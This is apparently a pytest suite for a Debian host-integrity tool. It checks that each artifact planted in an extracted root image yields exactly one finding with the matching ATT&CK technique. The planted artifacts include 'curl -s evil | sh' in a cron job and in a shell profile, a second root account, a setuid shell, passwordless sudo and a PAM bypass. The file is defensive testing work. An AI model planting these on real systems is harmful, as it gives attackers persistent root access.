# SPDX-License-Identifier: Apache-2.0
"""A real Debian server root, as demo/make-root builds it: nothing to say of a clean one, and one
finding, with its mechanism named, for each thing that is planted in it."""

import contextlib
import json
import os
import re
import shutil
import subprocess
import sys

import pytest
from roots import (AGENT, FINDINGS, PASS, SANITIZED, Image, agent, check_result,  # noqa: F401
                   environment, find_real_root, keys, make_file, needs_root)

pytestmark = needs_root

ENTRIES_MIN = 15000
RSS_MAX_KB = 40 * 1024


@pytest.fixture(scope="module")
def debian(tmp_path_factory, keys):
    """Extracted and sealed once; each test undoes what it planted."""
    base = tmp_path_factory.mktemp("debian")
    root = base / "root"
    root.mkdir()
    subprocess.run(["tar", "--xattrs", "--xattrs-include=*", "--acls", "--numeric-owner", "-p",
                    "-C", root, "-xf", find_real_root()], check=True)
    image = Image(root, keys, base / "manifest")
    image.out.mkdir()
    image.result = image.seal("--format", "json").json
    yield image
    shutil.rmtree(base, ignore_errors=True)


def test_seal(debian):
    assert debian.result["findings"] == [], "a golden image has nothing baked in"
    assert debian.predicate["image"]["name"] == "debian-golden"
    assert debian.predicate["entries"] >= ENTRIES_MIN
    assert any("security.capability" in x for x in debian.predicate["xattrs"].values())


def test_clean(debian):
    document = debian.verify(status=PASS)
    assert document["verdict"] == "pass" and document["findings"] == []
    assert document["coverage"]["entries"] >= ENTRIES_MIN
    assert document["coverage"]["unreadable"] == 0


def test_stock_mtree(debian):
    done = subprocess.run(["mtree", "-p", debian.root, "-f", debian.out / "manifest.mtree"],
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=120)
    assert done.stdout == ""


# A small process of its own: a fork of pytest would count pytest's memory as the agent's.
MEASURE = """
import os, sys
pid = os.spawnv(os.P_NOWAIT, sys.argv[1], sys.argv[1:])
_, status, usage = os.wait4(pid, 0)
print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)
"""


@pytest.mark.skipif(SANITIZED, reason="the sanitizers' own memory is in the figure")
@pytest.mark.parametrize("changes", (0, 3000))
def test_peak_memory(debian, changes):
    """With and without thousands of differences."""
    crowd = debian.root / "srv/crowd"
    for number in range(changes):
        make_file(crowd / f"{number}", "x")
    try:
        done = subprocess.run(
            [sys.executable, "-S", "-c", MEASURE, AGENT, "verify", *debian.arguments(), "--quiet"],
            env=environment(), stdout=subprocess.PIPE, text=True, check=True)
    finally:
        shutil.rmtree(crowd, ignore_errors=True)
    status, peak = map(int, done.stdout.split()[-2:])
    assert status == (FINDINGS if changes else PASS)
    assert peak < RSS_MAX_KB, f"{peak} kB"


@contextlib.contextmanager
def undo(root, *paths):
    """Puts the paths back as they were, with all attributes, whatever happens between."""
    saved = []
    for name in paths:
        path = root / name
        # The topmost directory that is not there yet goes away with all that comes into it.
        while not os.path.lexists(path.parent):
            path = path.parent
        copy = None
        if os.path.lexists(path):
            copy = root.parent / f"saved-{len(saved)}"
            subprocess.run(["cp", "-a", path, copy], check=True)
        saved.append((path, copy))
    try:
        yield
    finally:
        for path, copy in reversed(saved):
            subprocess.run(["rm", "-rf", path], check=True)
            if copy:
                subprocess.run(["mv", copy, path], check=True)


def add_line(path, line):
    with open(path, "a") as file:
        file.write(line + "\n")


def plant_service(root):
    make_file(root / "etc/systemd/system/x.service",
              "[Service]\nExecStart=/usr/local/bin/x\n[Install]\nWantedBy=multi-user.target\n")
    make_file(root / "usr/local/bin/x", "#!/bin/sh\n", 0o755)
    (root / "etc/systemd/system/multi-user.target.wants/x.service").symlink_to(
        "/etc/systemd/system/x.service")


def plant_timer(root):
    make_file(root / "etc/systemd/system/t.timer", "[Timer]\nOnCalendar=hourly\n")
    make_file(root / "etc/systemd/system/t.service", "[Service]\nExecStart=/usr/bin/true\n")
    wants = root / "etc/systemd/system/timers.target.wants"
    wants.mkdir(exist_ok=True)
    (wants / "t.timer").symlink_to("/etc/systemd/system/t.timer")


def plant_setuid_shell(root):
    shutil.copy(root / "usr/bin/dash", root / "usr/local/bin/rootsh")
    (root / "usr/local/bin/rootsh").chmod(0o4755)


def plant_user(root):
    add_line(root / "etc/passwd", "toor:x:0:0::/root:/bin/bash")
    add_line(root / "etc/shadow", "toor:$6$x$y:19000:0:99999:7:::")


def change_program(root):
    path = root / "usr/bin/ls"
    content = path.read_bytes()
    path.write_bytes(content[:-1] + bytes([content[-1] ^ 1]))


PLANTS = {
    "service": (
        ["etc/systemd/system/x.service", "usr/local/bin/x",
         "etc/systemd/system/multi-user.target.wants/x.service"], plant_service,
        "service.unexpected", "/etc/systemd/system/x.service", "T1543.002"),
    "drop-in": (
        ["etc/systemd/system/ssh.service.d/override.conf"],
        lambda r: make_file(r / "etc/systemd/system/ssh.service.d/override.conf",
                            "[Service]\nExecStartPre=/usr/bin/true\n"),
        "service.unexpected", "/etc/systemd/system/ssh.service.d/override.conf", "T1543.002"),
    "timer": (
        ["etc/systemd/system/t.timer", "etc/systemd/system/t.service",
         "etc/systemd/system/timers.target.wants/t.timer"], plant_timer,
        "timer.unexpected", "/etc/systemd/system/t.timer", "T1053.006"),
    "ssh key": (
        ["root/.ssh/authorized_keys"],
        lambda r: make_file(r / "root/.ssh/authorized_keys",
                            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI eve@laptop\n", 0o600),
        "sshkey.authorized", "/root/.ssh/authorized_keys", "T1098.004"),
    "setuid shell": (
        ["usr/local/bin/rootsh"], plant_setuid_shell,
        "suid.unexpected", "/usr/local/bin/rootsh", "T1548.001"),
    "setuid bit": (
        ["usr/bin/find"], lambda r: (r / "usr/bin/find").chmod(0o4755),
        "suid.changed", "/usr/bin/find", "T1548.001"),
    "preload": (
        ["etc/ld.so.preload"], lambda r: make_file(r / "etc/ld.so.preload", "/usr/lib/x.so\n"),
        "preload.unexpected", "/etc/ld.so.preload", "T1574.006"),
    "changed program": (
        ["usr/bin/ls"], change_program, "binary.changed", "/usr/bin/ls", "T1554"),
    "cron job": (
        ["etc/cron.d/backup"],
        lambda r: make_file(r / "etc/cron.d/backup", "* * * * * root curl -s evil | sh\n"),
        "cron.download-and-run", "/etc/cron.d/backup", "T1053.003"),
    "user's crontab": (
        ["var/spool/cron/crontabs/root"],
        lambda r: make_file(r / "var/spool/cron/crontabs/root", "@reboot /bin/true\n", 0o600),
        "cron.unexpected", "/var/spool/cron/crontabs/root", "T1053.003"),
    "sudoers": (
        ["etc/sudoers.d/90-x"],
        lambda r: make_file(r / "etc/sudoers.d/90-x", "x ALL=(ALL) NOPASSWD: ALL\n", 0o440),
        "sudo.no-password", "/etc/sudoers.d/90-x", "T1548.003"),
    "pam": (
        ["etc/pam.d/common-auth"],
        lambda r: add_line(r / "etc/pam.d/common-auth", "auth sufficient pam_permit.so"),
        "pam.bypass", "/etc/pam.d/common-auth", "T1556.003"),
    "pam module": (
        ["usr/lib/x86_64-linux-gnu/security/pam_x.so"],
        lambda r: make_file(r / "usr/lib/x86_64-linux-gnu/security/pam_x.so", "\x7fELF"),
        "pam.unexpected", "/usr/lib/x86_64-linux-gnu/security/pam_x.so", "T1556.003"),
    "kernel module": (
        ["usr/lib/modules/6.1.0-99-amd64/extra/rk.ko"],
        lambda r: make_file(r / "usr/lib/modules/6.1.0-99-amd64/extra/rk.ko", "\x7fELF"),
        "kmod.unexpected", "/usr/lib/modules/6.1.0-99-amd64/extra/rk.ko", "T1547.006"),
    "module load list": (
        ["etc/modules-load.d/rk.conf"],
        lambda r: make_file(r / "etc/modules-load.d/rk.conf", "rk\n"),
        "kmod.unexpected", "/etc/modules-load.d/rk.conf", "T1547.006"),
    "user": (
        ["etc/passwd", "etc/shadow"], plant_user, "account.second-root", "/etc/passwd", "T1136.001"),
    "sshd setting": (
        ["etc/ssh/sshd_config"],
        lambda r: add_line(r / "etc/ssh/sshd_config", "PermitRootLogin yes"),
        "sshd.authentication", "/etc/ssh/sshd_config", "T1098.004"),
    "udev rule": (
        ["etc/udev/rules.d/99-x.rules"],
        lambda r: make_file(r / "etc/udev/rules.d/99-x.rules", 'RUN+="/usr/bin/true"\n'),
        "udev.unexpected", "/etc/udev/rules.d/99-x.rules", "T1546.017"),
    "shell profile": (
        ["etc/profile.d/x.sh"],
        lambda r: make_file(r / "etc/profile.d/x.sh", "curl -s evil | sh\n"),
        "shell.unexpected", "/etc/profile.d/x.sh", "T1546.004"),
    "rc.local": (
        ["etc/rc.local"], lambda r: make_file(r / "etc/rc.local", "#!/bin/sh\n", 0o755),
        "init.unexpected", "/etc/rc.local", "T1037.004"),
    "apt hook": (
        ["etc/apt/apt.conf.d/99x"],
        lambda r: make_file(r / "etc/apt/apt.conf.d/99x", 'DPkg::Post-Invoke {"true";};\n'),
        "pkghook.unexpected", "/etc/apt/apt.conf.d/99x", "T1546.016"),
    "hidden program": (
        ["var/tmp/.x/miner"], lambda r: make_file(r / "var/tmp/.x/miner", "x", 0o755),
        None, None, None),
    "removed agent": (
        ["usr/sbin/cron"], lambda r: (r / "usr/sbin/cron").unlink(),
        "binary.missing", "/usr/sbin/cron", None),
}


@pytest.mark.parametrize("name", PLANTS)
def test_one_thing_is_one_finding(debian, name):
    paths, plant, code, path, technique = PLANTS[name]
    with undo(debian.root, *paths):
        plant(debian.root)
        document = debian.verify(status=FINDINGS)
    assert len(document["findings"]) == 1, json.dumps(document["findings"], indent=1)
    finding = document["findings"][0]
    if code:
        assert (finding["code"], finding["path"]) == (code, path)
    if technique:
        assert technique in finding["attack"]
    named = {finding["path"], *finding["related"]}
    assert {f"/{p}" for p in paths} <= named
    assert document["verdict"] == "fail"


PACKAGES = {"/usr/bin/ls": "coreutils", "/usr/sbin/sshd": "openssh-server", "/usr/bin/sudo": "sudo",
            "/etc/pam.d/sshd": "openssh-server", "/usr/lib/os-release": "base-files"}


def test_packages_are_named(debian):
    with undo(debian.root, *(p[1:] for p in PACKAGES)):
        for path in PACKAGES:
            add_line(debian.root / path[1:], "x")
        document = debian.verify(status=FINDINGS)
    found = {}
    for finding in document["findings"]:
        found[finding["path"]] = finding["package"]
    assert {p: found.get(p) for p in PACKAGES} == PACKAGES


def test_clean_again(debian):
    """Everything above was undone, so the root is the image once more."""
    assert debian.verify(status=PASS)["findings"] == []


def test_json_of_real_findings(debian):
    with undo(debian.root, "etc/motd", "usr/bin/ls"):
        (debian.root / "etc/motd").write_text("hello\n")
        change_program(debian.root)
        document = debian.verify(status=FINDINGS)
    assert check_result(document)
    assert {f["path"] for f in document["findings"]} == {"/etc/motd", "/usr/bin/ls"}


def audit(debian, status=PASS):
    result = agent("audit", "--root", debian.root, "--format", "json").expect(status)
    return result.json


def test_audit_is_clean(debian):
    """Without the manifest: nothing to say of a stock root, and what was looked at."""
    document = audit(debian)
    assert document["verdict"] == "pass" and document["findings"] == []
    assert re.fullmatch(r"ran: \d+ of dpkg", document["coverage"]["checks"]["packages"])
    assert document["coverage"]["entries"] >= ENTRIES_MIN


AUDITED = {
    "unit": (PLANTS["service"][0], plant_service, "service.unowned", "medium",
             "/etc/systemd/system/x.service"),
    "program": (["usr/bin/ls"], change_program, "binary.altered", "high", "/usr/bin/ls"),
    "setuid shell": (PLANTS["setuid shell"][0], plant_setuid_shell, "suid.unowned", "high",
                     "/usr/local/bin/rootsh"),
    "setuid bit": (["usr/bin/find"], lambda r: (r / "usr/bin/find").chmod(0o4755),
                   "suid.altered", "high", "/usr/bin/find"),
    "conffile": (["etc/bash.bashrc"], lambda r: add_line(r / "etc/bash.bashrc", "true"),
                 "shell.altered", "low", "/etc/bash.bashrc"),
    "removed": (["usr/sbin/cron"], lambda r: (r / "usr/sbin/cron").unlink(),
                "binary.removed", "low", "/usr/sbin/cron"),
    "dormant unit": (
        ["etc/systemd/system/sysinit.target.wants/debug-shell.service"],
        lambda r: (r / "etc/systemd/system/sysinit.target.wants/debug-shell.service").symlink_to(
            "/lib/systemd/system/debug-shell.service"),
        "service.unowned", "medium",
        "/etc/systemd/system/sysinit.target.wants/debug-shell.service"),
}


@pytest.mark.parametrize("name", AUDITED)
def test_audit_names(debian, name):
    """One finding, that of the mechanism, a check of content or the plain one."""
    paths, plant, code, severity, path = AUDITED[name]
    with undo(debian.root, *paths):
        plant(debian.root)
        document = audit(debian, FINDINGS)
    assert len(document["findings"]) == 1, json.dumps(document["findings"], indent=1)
    finding = document["findings"][0]
    assert finding["path"] == path
    assert finding["code"].split(".")[0] == code.split(".")[0]
    order = ["info", "low", "medium", "high", "critical"]
    assert order.index(finding["severity"]) >= order.index(severity)
    assert {f"/{p}" for p in paths} <= {finding["path"], *finding["related"]}


def test_audit_without_packages(debian):
    with undo(debian.root, "var/lib/dpkg"):
        shutil.rmtree(debian.root / "var/lib/dpkg")
        document = audit(debian, FINDINGS)
    assert "coverage.no-packages" in {f["code"] for f in document["findings"]}
    assert document["coverage"]["checks"]["packages"] == "not run: no database of dpkg"
    assert document["verdict"] == "warn"
